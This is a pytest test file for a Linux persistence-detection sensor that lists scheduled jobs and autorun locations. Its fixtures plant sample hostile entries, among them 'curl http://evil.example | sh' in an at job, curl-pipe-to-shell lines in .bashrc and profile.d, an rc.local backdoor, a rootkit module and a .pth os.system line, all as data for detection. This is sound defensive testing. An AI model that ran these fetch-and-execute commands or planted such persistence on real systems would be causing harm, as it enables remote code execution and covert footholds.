"""What starts by itself: on a root with one of each, and on this computer beside its own tools."""

from __future__ import annotations

import os
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.sensors.crontabs import read_table
from agent.sensors.packages import owners_of
from tests.agent.sensors.comparing import printed, program, rows_of, write

PASSWD = "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n"
AT_JOB = """#!/bin/sh
# atrun uid=1000 gid=1000
umask 22
PATH=/usr/bin; export PATH
cd /home/alice || {
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}
curl http://evil.example | sh
"""
TIMER = "[Timer]\nOnCalendar=daily\nOnBootSec=5min\n[Install]\nWantedBy=timers.target\n"


def scheduled(root: Path) -> dict[str, dict[str, str]]:
    return {row["Command"]: row for row in rows_of("persistence.scheduled_jobs", root)}


class TestScheduledJobs:
    def test_come_from_every_clock(self, tmp_path: Path) -> None:
        minutes = 1_714_557_600 // 60
        root = write(
            tmp_path,
            {
                "etc/passwd": PASSWD,
                "etc/crontab": "SHELL=/bin/sh\n# no\n17 * * * * root run hourly\n1 2 3\n"
                "@reboot bob x\n",
                "etc/cron.d/job": "*/5 * * * * www-data /bin/five % minutes\n",
                "var/spool/cron/crontabs/alice": "@daily /home/alice/.hidden\nA = b\n"
                "0 1 * * 1 two words\n",
                "etc/cron.daily/on": "",
                "etc/cron.daily/off": "",
                "etc/anacrontab": "START=1\n7 10 w run weekly\n@monthly 5 id run monthly\n",
                f"var/spool/cron/atjobs/a00001{minutes:08x}": AT_JOB,
                "var/spool/cron/atjobs/.SEQ": "1",
                "etc/systemd/system/t.timer": TIMER,
                "etc/systemd/system/t.service": "[Service]\nExecStart=/bin/t\nUser=bob\n",
                "home/alice/.config/systemd/user/u.timer": "[Timer]\nOnStartupSec=1\n"
                "Unit=v.service\n",
                "var/lib/dpkg/info/cron.list": "/etc/crontab\n",
                "var/lib/dpkg/status": "",
            },
        )
        (root / "etc/cron.daily/on").chmod(0o755)
        os.mkfifo(root / "etc/cron.d/pipe")
        (root / "etc/systemd/system/timers.target.wants").mkdir()
        (root / "etc/systemd/system/timers.target.wants/t.timer").symlink_to("../t.timer")

        jobs = scheduled(root)

        found = {command: (row["Schedule"], row["User"]) for command, row in jobs.items()}
        assert found == {
            "run hourly": ("17 * * * *", "root"),
            "x": ("@reboot", "bob"),
            "/bin/five % minutes": ("*/5 * * * *", "www-data"),
            "/home/alice/.hidden": ("@daily", "alice"),
            "two words": ("0 1 * * 1", "alice"),
            "/etc/cron.daily/on": ("daily", "root"),
            "/etc/cron.daily/off": ("daily", "root"),
            "run weekly": ("every 7 days", "root"),
            "run monthly": ("@monthly", "root"),
            "curl http://evil.example | sh": ("2024-05-01 10:00:00.000+00:00", "root"),
            "/bin/t": ("daily; OnBootSec=5min", "bob"),
            "v.service": ("OnStartupSec=1", "alice"),
        }
        assert jobs["/etc/cron.daily/off"]["State"] == "not executable"
        assert (jobs["/bin/t"]["State"], jobs["v.service"]["State"]) == ("enabled", "static")
        assert (jobs["run hourly"]["Package"], jobs["two words"]["Package"]) == ("cron", "")
        assert jobs["/bin/t"]["Technique"] == "T1053.006"

    def test_have_the_timers_of_systemctl(self) -> None:
        listed = printed(
            *(program("systemctl"), "--root=/", "list-unit-files", "--type=timer", "--no-legend")
        )

        rows = rows_of("persistence.scheduled_jobs")

        ours = {Path(row["Path"]).name for row in rows if row["Kind"] == "systemd timer"}
        assert ours == {line.split()[0] for line in listed.splitlines()}

    def test_show_when_a_file_was_changed(self, tmp_path: Path) -> None:
        write(tmp_path, {"etc/crontab": "* * * * * root x\n"})
        os.utime(tmp_path / "etc/crontab", (1, 1_714_557_600))

        assert scheduled(tmp_path)["x"]["Last Modified"] == "2024-05-01 10:00:00.000+00:00"

    @given(st.text(alphabet="*@#=a 1\t\n"), st.sampled_from([None, "alice"]))
    def test_survive_any_table(self, text: str, user: str | None) -> None:
        for schedule, who, command in read_table(text, user=user):
            assert schedule
            assert who
            assert command


class TestAutoruns:
    @pytest.fixture
    def root(self, tmp_path: Path) -> Path:
        root = write(
            tmp_path,
            {
                "etc/passwd": PASSWD,
                "etc/rc.local": "#!/bin/sh\n/opt/backdoor &\nexit 0\n",
                "etc/init.d/evil": "# Short-Description: Evil\n",
                "etc/profile.d/x.sh": "curl x | sh\n",
                "etc/ld.so.preload": "/lib/a.so /lib/b.so\n",
                "etc/udev/rules.d/9.rules": 'A=="x", RUN+="/bin/u", RUN{program}+="/bin/v"\n',
                "etc/pam.d/sshd": "auth optional pam_exec.so quiet /bin/p\n# pam_exec.so no\n",
                "usr/lib/x86_64-linux-gnu/security/pam_unix.so": "",
                "usr/lib/x86_64-linux-gnu/security/pam_evil.so": "",
                "etc/modules-load.d/m.conf": "# no\nrootkit\n",
                "etc/update-motd.d/99-x": "",
                "etc/apt/apt.conf.d/99x": 'APT::Update::Pre-Invoke {"/bin/h";};\n',
                "etc/xdg/autostart/a.desktop": "[Desktop Entry]\nExec=/bin/d --x\n",
                "home/alice/.config/autostart/b.desktop": "Exec=/bin/e\nHidden=true\n",
                "etc/systemd/system/s.service": "[Service]\nExecStart=/bin/s\n"
                "[Install]\nWantedBy=multi-user.target\n",
                "usr/lib/systemd/system/quiet.service": "[Service]\nExecStart=/bin/q\n",
                "etc/systemd/system/quiet.service.d/o.conf": "[Service]\nExecStart=/bin/drop\n",
                "etc/skel/.profile": "umask 22\n",
                "home/alice/.profile": "umask 22\n",
                "home/alice/.bashrc": "alias a=b\ncurl http://x | bash\n",
                "home/alice/.ssh/rc": "/bin/r\n",
                "home/alice/.gitconfig": "[core]\n\thooksPath = /tmp/hooks\n",
                "usr/lib/python3/dist-packages/x.pth": "./folder\nimport os; os.system('x')\n",
                "var/lib/dpkg/info/libpam.list": "/lib/x86_64-linux-gnu/security/pam_unix.so\n",
                "var/lib/dpkg/status": "",
            },
        )
        (root / "lib").symlink_to("usr/lib")
        wants = root / "etc/systemd/system/multi-user.target.wants"
        wants.mkdir()
        (wants / "s.service").symlink_to("../s.service")
        return root

    def test_come_from_every_place(self, root: Path) -> None:
        rows = rows_of("persistence.autoruns", root)

        found = {(row["Category"], row["What Runs"]) for row in rows}
        assert found == {
            ("rc.local", "/opt/backdoor &"),
            ("init script", "Evil"),
            ("shell start-up", "curl x | sh"),
            ("ld.so.preload", "/lib/a.so"),
            ("ld.so.preload", "/lib/b.so"),
            ("udev rule", "/bin/u"),
            ("udev rule", "/bin/v"),
            ("PAM command", "auth optional pam_exec.so quiet /bin/p"),
            ("PAM module", "/usr/lib/x86_64-linux-gnu/security/pam_evil.so"),
            ("kernel module", "rootkit"),
            ("motd script", "/etc/update-motd.d/99-x"),
            ("package manager hook", 'APT::Update::Pre-Invoke: "/bin/h"'),
            ("desktop autostart", "/bin/d --x"),
            ("systemd service", "/bin/s"),
            ("systemd drop-in", "quiet.service: /bin/q; /bin/drop"),
            ("shell start-up", "as new accounts get it"),
            ("shell start-up", "curl http://x | bash"),
            ("SSH login script", "/bin/r"),
            ("git hook", "hooksPath = /tmp/hooks"),
            ("Python start-up", "import os; os.system('x')"),
        }
        assert all(row["Technique"].startswith("T1") for row in rows)
        users = {row["Path"]: row["User"] for row in rows}
        assert users["/home/alice/.bashrc"] == "alice"
        assert users["/etc/profile.d/x.sh"] == "every user"

    @pytest.mark.parametrize(
        ("path", "text", "runs"),
        [
            ("usr/local/lib/udev/rules.d/1.rules", 'RUN+="/bin/w"\n', "/bin/w"),
            (
                "home/alice/.local/lib/python3.11/site-packages/e.pth",
                "import evil\n",
                "import evil",
            ),
            ("home/alice/.local/lib/python3.12/site-packages/usercustomize.py", "x\n", "1 lines"),
            *(
                (f"{folder}/x", "", f"/{folder}/x")
                for folder in (
                    "etc/NetworkManager/dispatcher.d/pre-up.d",
                    "usr/lib/NetworkManager/dispatcher.d/no-wait.d",
                    "etc/network/if-down.d",
                    "etc/networkd-dispatcher/off.d",
                    "etc/X11/Xsession.d",
                    "etc/systemd/user-generators",
                    "usr/local/lib/systemd/user-environment-generators",
                    "usr/lib/systemd/system-shutdown",
                )
            ),
            (
                "home/alice/.local/share/systemd/user/l.service",
                "[Service]\nExecStart=/bin/l\n[Install]\nAlias=m.service\n",
                "/bin/l",
            ),
        ],
    )
    def test_come_from_places_that_few_know(
        self, root: Path, path: str, text: str, runs: str
    ) -> None:
        write(root, {path: text})
        wants = root / "home/alice/.config/systemd/user/default.target.wants"
        wants.mkdir(parents=True)
        (wants / "l.service").symlink_to("../../../../.local/share/systemd/user/l.service")

        rows = rows_of("persistence.autoruns", root)

        assert [row["What Runs"] for row in rows if row["Path"] == f"/{path}"] == [runs]

    def test_show_where_links_of_a_user_lead(self, root: Path) -> None:
        alice = root / "home/alice"
        write(root, {"secret": "curl http://secret\n", "tmp/x": "curl http://y | sh\n"})
        (root / "secret").chmod(0o600)
        (alice / ".zshrc").symlink_to(root / "secret")
        (alice / ".zshenv").symlink_to("../../tmp/x")
        (alice / ".zlogin").symlink_to("/nowhere")
        (alice / ".config/autostart/p.desktop").symlink_to(root / "secret")
        (alice / ".config/autostart/c.desktop").write_bytes(b"Exec=\xff\nName\n=\n")
        (alice / ".ssh/rc").unlink()
        (alice / ".ssh/rc").symlink_to("rc")
        os.mkfifo(alice / ".bash_login")
        os.mkfifo(root / "tmp/pipe")
        (alice / ".kshrc").symlink_to(root / "tmp/pipe")

        rows = rows_of("persistence.autoruns", root)

        runs = {row["Path"].removeprefix("/home/alice/"): row["What Runs"] for row in rows}
        assert runs[".zshrc"] == "link to /secret, which was not read"
        assert runs[".zshenv"] == "link to /tmp/x: curl http://y | sh"
        assert runs[".zlogin"] == "link to /nowhere, which was not read"
        assert runs[".ssh/rc"] == "no file that can be read: link"
        assert runs[".kshrc"] == "link to /tmp/pipe, which was not read"
        assert runs[".bash_login"] == "no file that can be read: pipe"
        assert runs[".config/autostart/p.desktop"] == "link to /secret, which was not read"
        assert runs[".config/autostart/c.desktop"] == r"\xff"

    def test_name_the_packages_that_dpkg_names(self) -> None:
        query = program("dpkg-query")
        rows = rows_of("persistence.autoruns")
        owned = [row for row in rows if row["Package"]][::12]
        assert owned

        for row in owned:
            # Lists may have the path of before /usr was merged.
            spelled = [row["Path"], row["Path"].removeprefix("/usr")]
            found = owners_of(Path("/"), [row["Path"]])[row["Path"]]
            lists = [
                line
                for path in spelled
                for line in printed(
                    "sh", "-c", f"{query} -S {path} 2>/dev/null || true"
                ).splitlines()
            ]
            assert any(found in line.partition(": ")[0] for line in lists), row

    def test_show_instants_as_they_are(self) -> None:
        rows = rows_of("persistence.autoruns")

        for row in rows[::20]:
            changed = datetime.fromtimestamp(Path(row["Path"]).stat().st_mtime, UTC)
            assert row["Last Modified"].startswith(f"{changed:%Y-%m-%d %H:%M:%S}")
